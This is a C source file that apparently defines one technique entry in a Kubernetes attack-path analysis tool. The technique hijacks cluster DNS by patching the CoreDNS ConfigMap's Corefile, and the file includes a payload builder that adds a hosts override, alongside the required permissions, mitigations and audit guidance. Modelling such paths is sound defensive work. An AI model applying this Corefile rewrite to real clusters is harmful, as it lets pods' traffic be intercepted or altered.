// CoreDNS reads its file again when it changes. Asked only where the ConfigMap exists or ConfigMaps are not in the input.
#include "attack/technique.h"
#include "attack/technique/build.h"
#include "attack/technique/lookup.h"

static enum verdict when(const struct snapshot *s, uint32_t ns, const span *names, size_t n_names, enum unknown *why)
{
	(void)ns, (void)names, (void)n_names;
	return lookup_object(s, GK_CONFIG_MAP, "kube-system", "coredns", why);
}

static bool body(struct payload *p)
{
	if (p->object.type != VALUE_OBJECT)
		return false;
	build_set(p, "data.Corefile", value_string(SPAN(".:53 {\n    hosts {\n        192.0.2.1 example.com\n        fallthrough\n    }\n}\n")));
	return true;
}

const struct technique technique_coredns_corefile = {
	.id = "coredns-corefile",
	.title = "Change the answers of the cluster's DNS",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_CONTROL_PLANE,
	.harm = HARM_CONFIDENTIALITY | HARM_INTEGRITY | HARM_AVAILABILITY,
	.attack = "T1557,T1565.002",
	.matrix = "MS-TA9035",
	.needs = "patch or update on the ConfigMap kube-system/coredns",
	.gives = "sends any name that a pod looks up to an address of the attacker's",
	.fixes =
		"Remove patch and update on configmaps in kube-system, or limit them with resourceNames\n"
		"Allow only the platform to change that ConfigMap by admission policy",
	.audit = "patch or update of configmaps kube-system/coredns",
	.source = "coredns.io plugins/hosts, plugins/rewrite, plugins/reload",
	.from = POSITION_IDENTITY,
	.effect = EFFECT_TRAFFIC,
	.grant = {
		{ "patch|update", "", "configmaps", .scope = SCOPE_KUBE_SYSTEM, .name = "coredns" },
	},
	.when = when,
	.body = body,
};
